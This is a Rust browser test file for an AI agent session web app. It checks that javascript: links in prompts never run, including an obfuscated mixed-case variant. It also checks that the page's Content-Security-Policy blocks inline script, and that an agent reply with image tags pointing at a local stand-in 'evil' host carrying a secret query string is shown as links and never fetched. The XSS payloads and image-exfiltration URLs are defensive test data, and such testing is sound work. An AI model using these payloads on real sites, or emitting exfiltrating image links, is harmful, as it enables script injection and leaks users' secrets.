//! What a person or an agent writes is hostile to every other person's browser: a
//! `javascript:` link (or image) in a prompt or a reply runs nothing when clicked, and every
//! page carries a Content-Security-Policy that allows no inline script; an agent's remote image
//! is never fetched by a viewer's browser (it shows as a link the person may open).

use fantoccini::Locator;
use tandem_protocol::*;
use tandem_server::client::Client;

use crate::browser::{Browser, web_dir};
use crate::harness::{Backend, TestServer, Transport};

#[tokio::test]
async fn a_javascript_link_in_a_prompt_runs_nothing_when_an_admin_clicks_it() {
    let Some(web) = web_dir() else { return };
    let s = TestServer::start_with_web(Backend::Sqlite, Transport::Socket, Some(web))
        .await
        .unwrap();
    let api = Client::new(&s.url, Some(s.admin_token.clone())).unwrap();
    let repo = api
        .create_repo(&CreateRepo {
            name: "hostile/xss".into(),
            url: "https://example.invalid/xss.git".into(),
            default_branch: None,
            warm_pool: None,
        })
        .await
        .unwrap();
    let prompt = "Please look at [the report](javascript:window.__pwned=1) and \
                  ![chart](javascript:window.__pwned=2) and [this](JaVa&#x09;ScRiPt:window.__pwned=3) \
                  <a href=\"javascript:window.__pwned=4\">raw</a> or [the docs](https://example.com/docs)";
    let id = api
        .create_session(&CreateSession {
            repo_id: repo.id,
            prompt: prompt.into(),
            branch: None,
            agent: None,
            context: None,
        })
        .await
        .unwrap()
        .session
        .id;
    let b = Browser::start("hostile-xss").await;
    b.sign_in(&s.url, &s.first_login_code).await;
    b.client
        .goto(&format!("{}/sessions/{id}", s.url))
        .await
        .unwrap();
    b.wait_text("#timeline .ev.prompt", "the report").await;
    // No link or image points at a script URL; the safe link stays a link.
    let hrefs = b
        .client
        .execute(
            "return [...document.querySelectorAll('#timeline a[href], #timeline img[src]')].map(e => e.getAttribute('href') || e.getAttribute('src'))",
            vec![],
        )
        .await
        .unwrap();
    let hrefs: Vec<String> = serde_json::from_value(hrefs).unwrap();
    assert!(
        hrefs.iter().all(|h| !h
            .to_lowercase()
            .replace(['\t', ' '], "")
            .contains("script:")),
        "{hrefs:?}"
    );
    assert!(
        hrefs.iter().any(|h| h == "https://example.com/docs"),
        "{hrefs:?}"
    );
    // Clicking where the link was runs nothing.
    for el in b
        .client
        .find_all(Locator::Css("#timeline .ev.prompt .md *"))
        .await
        .unwrap()
    {
        let text = el.text().await.unwrap_or_default();
        if text.contains("the report") || text.contains("raw") || text.contains("this") {
            let _ = el.click().await;
        }
    }
    let pwned = b
        .client
        .execute("return window.__pwned === undefined", vec![])
        .await
        .unwrap();
    assert_eq!(pwned, serde_json::json!(true), "a script URL ran");
    // Even an inline script the page somehow got would not run: the policy forbids it.
    let blocked = b
        .client
        .execute(
            "const s = document.createElement('script'); s.textContent = 'window.__inline = 1'; document.body.appendChild(s); return window.__inline === undefined",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(blocked, serde_json::json!(true), "inline script ran");
    b.screenshot("timeline").await;
    b.close().await;

    let res = reqwest::get(&s.url).await.unwrap();
    let csp = res.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    for part in [
        "script-src 'self' 'wasm-unsafe-eval'",
        "object-src 'none'",
        "frame-ancestors 'self'",
    ] {
        assert!(csp.contains(part), "{csp}");
    }
    assert_eq!(res.headers()["x-content-type-options"], "nosniff");
}

/// A loopback listener that answers every connection with a tiny PNG and counts them: the
/// stand-in for the host an exfiltrating image would point at.
async fn counting_listener() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    const PNG: &[u8] = &[
        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44,
        0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f,
        0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8,
        0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05, 0x00, 0x01, 0xff, 0x89, 0x99, 0x3d, 0x1d, 0x00, 0x00,
        0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
    ];
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let hits = std::sync::Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = conn.read(&mut buf).await;
                let head = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    PNG.len()
                );
                let _ = conn.write_all(head.as_bytes()).await;
                let _ = conn.write_all(PNG).await;
            });
        }
    });
    (url, hits)
}

#[tokio::test]
async fn an_agents_remote_image_is_never_fetched_by_a_viewer_and_shows_as_a_link() {
    use std::sync::atomic::Ordering;
    let Some(web) = web_dir() else { return };
    let (evil, hits) = counting_listener().await;
    let reply = format!(
        "Exfil check. ![chart]({evil}/chart.png?d=s3cr3t) and ![ref][r] and \
         <img src=\"{evil}/raw.png?d=s3cr3t\"> end.\n\n[r]: {evil}/ref.png?d=s3cr3t"
    );
    let model = scripted_model::ScriptedModel::start(vec![
        scripted_model::Reply::text(&reply).for_prompt("Draw"),
    ])
    .await;
    model.fallback(scripted_model::Reply::text("Noted."));
    let Some(s) = crate::session::server(web, &model).await else {
        return;
    };
    let api = Client::new(&s.url, Some(s.admin_token.clone())).unwrap();
    api.set_secret("model_api_key", "sk-e2e".into())
        .await
        .unwrap();
    let (_src, repo) = crate::fixtures::repo_with(&api, "hostile/images", &[]).await;
    let id = api
        .create_session(&CreateSession {
            repo_id: repo.id,
            prompt: "Draw the chart".into(),
            branch: None,
            agent: None,
            context: None,
        })
        .await
        .unwrap()
        .session
        .id;
    let b = Browser::start("hostile-images").await;
    b.sign_in(&s.url, &s.first_login_code).await;
    b.client
        .goto(&format!("{}/sessions/{id}", s.url))
        .await
        .unwrap();
    b.wait_text("#timeline .ev.agent", "Exfil check.").await;
    // Whatever images the page has, each has loaded or failed by now (an image the rendered
    // message asked for would have reached the listener).
    b.client
        .execute_async(
            "const done = arguments[arguments.length - 1];
             Promise.all([...document.images].map(i => i.complete ? null :
               new Promise(r => { i.onload = r; i.onerror = r; }))).then(() => done(true));",
            vec![],
        )
        .await
        .unwrap();
    let srcs = b
        .client
        .execute(
            "return [...document.querySelectorAll('#timeline img')].map(i => i.src)",
            vec![],
        )
        .await
        .unwrap();
    let srcs: Vec<String> = serde_json::from_value(srcs).unwrap();
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "a viewer's browser fetched the agent's image: {srcs:?}"
    );
    assert!(srcs.iter().all(|s| !s.starts_with(&evil)), "{srcs:?}");
    // The images are plain links the person may choose to open; the raw tag is text.
    let hrefs = b
        .client
        .execute(
            "return [...document.querySelectorAll('#timeline .ev.agent a[href]')].map(a => a.getAttribute('href'))",
            vec![],
        )
        .await
        .unwrap();
    let hrefs: Vec<String> = serde_json::from_value(hrefs).unwrap();
    for want in ["/chart.png?d=s3cr3t", "/ref.png?d=s3cr3t"] {
        assert!(
            hrefs.contains(&format!("{evil}{want}")),
            "{want} as a link: {hrefs:?}"
        );
    }
    let text = b.wait_text("#timeline .ev.agent", "end.").await;
    assert!(
        text.contains("<img src="),
        "the raw tag shows as text: {text}"
    );
    b.screenshot("remote-image-as-link").await;
    b.close().await;
    assert_eq!(hits.load(Ordering::SeqCst), 0);
    let _ = api.session_action(id, "stop").await;
}
